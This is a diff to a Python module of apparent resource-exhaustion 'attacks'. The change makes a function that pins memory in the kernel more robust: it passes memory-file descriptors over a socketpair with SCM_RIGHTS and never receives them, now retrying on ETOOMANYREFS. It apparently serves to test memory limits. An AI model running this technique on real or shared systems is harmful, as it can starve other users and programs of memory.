@@ -6,6 +6,7 @@
 import array
 import contextlib
 import ctypes
+import errno
 import mmap
 import os
 import socket
@@ -188,13 +189,28 @@ def queue_of_the_dead(targets: dict[str, str]) -> str:
 def descriptors_in_flight(targets: dict[str, str]) -> str:
     """It sends memory files to itself, closes them and never receives them."""
     ends = socket.socketpair()
+    deadline = time.monotonic() + SECONDS
     for _ in range(FILES):
         descriptor = memory_file()
         rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [descriptor]))
-        ends[0].sendmsg([b"x"], [rights])
+        send_by(deadline, ends[0], rights)
         os.close(descriptor)
     time.sleep(SECONDS)
     return f"{FILES * FILE_BYTES >> 20} MB"
+
+
+def send_by(
+    deadline: float, end: socket.socket, rights: tuple[int, int, "array.array[int]"]
+) -> None:
+    """Send descriptors, once other programs of this user leave it room for them on their way."""
+    while True:
+        try:
+            end.sendmsg([b"x"], [rights])
+            return
+        except OSError as error:
+            if error.errno != errno.ETOOMANYREFS or time.monotonic() > deadline:
+                raise
+            time.sleep(0.05)
 
 
 @attack
